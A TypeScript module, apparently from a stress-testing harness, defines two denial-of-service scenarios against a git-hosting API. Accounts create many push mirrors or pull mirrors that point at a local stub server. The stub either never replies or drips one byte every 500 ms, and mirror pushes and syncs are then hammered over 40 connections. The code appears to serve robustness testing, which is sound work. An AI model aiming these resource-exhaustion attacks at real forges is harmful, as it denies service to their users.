import { once } from 'node:events'
import { createServer, type ServerResponse } from 'node:http'
import * as z from 'zod'
import { fetchFrom } from '../scene/fetch-from.ts'
import { asBrowser } from '../scene/make-board.ts'
import { hammer } from '../wire/hammer.ts'
import { jsonRequest } from '../wire/request.ts'
import type { Sender } from '../wire/sender.ts'
import type { Attack, Play } from './attack.ts'

const Added = z.object({ data: z.object({ uid: z.string() }) })
const targetsEach = 10
const dripMs = 500

/** Each run starts git, a proxy and a connection, and holds one of four places as long as the target likes. */
export const pushMirrorFloods: Attack = {
  name: 'push-mirror-floods',
  about:
    'ten mirrors of each account at a target that takes connections and says nothing, pushed to as fast as it goes',
  doors: ['http'],
  roles: ['account'],
  async prepare({ ownRepositories }) {
    await ownRepositories('pushed')
    return {}
  },
  async play(play) {
    const stop = await otherServer(play, () => undefined)
    const uids = new Map<Sender, string[]>()
    for (const sender of play.senders) {
      const own: string[] = []
      for (let n = 0; n < targetsEach; n += 1) {
        const added = Added.safeParse(await tell(play, sender, { method: 'POST', path: 'pushed/push-mirrors' }))
        if (added.success) own.push(added.data.data.uid)
      }
      uids.set(sender, own)
    }
    await hammer(play, {
      connections: 40,
      request: (sender, n) =>
        jsonRequest({
          path: `${pathOf(sender)}/pushed/push-mirrors/${uids.get(sender)?.[n % targetsEach] ?? ''}/push`,
          headers: asBrowser(sender),
          body: {},
        }),
    })
    stop()
  },
}

/** A source that goes on for ever, a byte at a time, is what it says it is for as long as it is listened to. */
export const mirrorFloods: Attack = {
  name: 'mirror-floods',
  about: 'a mirror of each account of a source that drips what it has, synced as fast as it goes',
  doors: ['http'],
  roles: ['account'],
  async prepare({ ownRepositories }) {
    await ownRepositories('mirrored')
    return {}
  },
  async play(play) {
    const stop = await otherServer(play, (response) => {
      response.writeHead(200, { 'content-type': 'application/x-git-upload-pack-advertisement' })
      response.write('001e# service=git-upload-pack\n0000')
      const dripping = setInterval(() => response.write('0'), dripMs)
      response.on('close', () => clearInterval(dripping))
    })
    for (const sender of play.senders) await tell(play, sender, { method: 'PUT', path: 'mirrored/mirror' })
    await hammer(play, {
      connections: 40,
      request: (sender) =>
        jsonRequest({ path: `${pathOf(sender)}/mirrored/mirror/sync`, headers: asBrowser(sender), body: {} }),
    })
    stop()
  },
}

const pathOf = ({ account }: Sender) => `/api/repo/${account?.username}`

async function tell({ port, providerPort }: Play, sender: Sender, { method, path }: { method: string; path: string }) {
  const answer = await fetchFrom(sender.address).fetch(`http://127.0.0.1:${port}${pathOf(sender)}/${path}`, {
    method,
    headers: { 'content-type': 'application/json', ...asBrowser(sender) },
    body: JSON.stringify({ url: `http://127.0.0.1:${providerPort}/a.git`, confirmed: true }),
  })
  return answer.json()
}

type Say = (response: ServerResponse) => void

/** Where the server may ask: see `startServer` of the storm. */
async function otherServer({ providerPort, signal, count }: Play, say: Say): Promise<() => void> {
  const server = createServer((asked, response) => {
    asked.resume()
    count('the other server was asked')
    say(response)
  })
  server.listen(providerPort, '127.0.0.1')
  await once(server, 'listening')
  const stop = () => {
    server.close()
    server.closeAllConnections()
  }
  signal.addEventListener('abort', stop, { once: true })
  return stop
}
